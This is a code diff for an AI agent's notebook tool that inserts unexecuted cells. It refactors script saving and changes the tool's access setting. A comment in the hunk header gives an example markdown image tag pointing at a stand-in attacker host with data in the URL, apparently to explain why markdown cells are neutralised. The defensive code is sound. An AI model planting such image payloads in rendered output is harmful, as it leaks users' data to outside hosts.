@@ -9,17 +9,18 @@ cells, so a planted `<img src=https://attacker/?data>` would otherwise be fetche
 from __future__ import annotations
 
 import re
-from typing import Any, Literal
+from typing import Literal
 
 from ..agent import events as ev
 from ..agent.markdown_safe import inert_markdown
+from ..agent.tooling import ScriptStore
 from ..tools.registry import Tool, ToolContext, ToolError
 
 MAX_CELL_CHARS = 200_000
 
 
-def _script_name(session: Any, call_id: str, cell_type: str) -> str:
-    count = len(list(session.scripts_dir.glob("cell_*"))) + 1
+def _script_name(scripts: ScriptStore, call_id: str, cell_type: str) -> str:
+    count = scripts.count("cell_*") + 1
     safe = re.sub(r"[^A-Za-z0-9_-]", "", call_id)[:24] or "call"
     return f"cell_{count:03d}_{safe}.{'py' if cell_type == 'code' else 'md'}"
 
@@ -35,13 +36,13 @@ async def notebook_insert_cell(source: str, ctx: ToolContext, cell_type: Literal
         raise ToolError(f"the cell is {len(source)} characters; keep it under {MAX_CELL_CHARS}")
     if cell_type == "markdown":
         source = inert_markdown(source)
-    session = ctx.service("session")
-    path = session.save_script(_script_name(session, ctx.call_id, cell_type), source)
+    scripts = ctx.script_store()
+    path = scripts.save(_script_name(scripts, ctx.call_id, cell_type), source)
     ctx.emit(ev.CellInsert(call_id=ctx.call_id, source=source, cell_type=cell_type,
-                           anchor_cell_id=session.anchor_cell_id, script_path=str(path)))
+                           anchor_cell_id=ctx.anchor_cell_id, script_path=str(path)))
     return (f"Inserted a {cell_type} cell below the user's %%intern cell (not executed) and saved it as {path}. "
             "The user runs it when ready.")
 
 
 def insert_cell_tool() -> Tool:
-    return Tool.from_function(notebook_insert_cell, read_only=True)
+    return Tool.from_function(notebook_insert_cell, access="session")
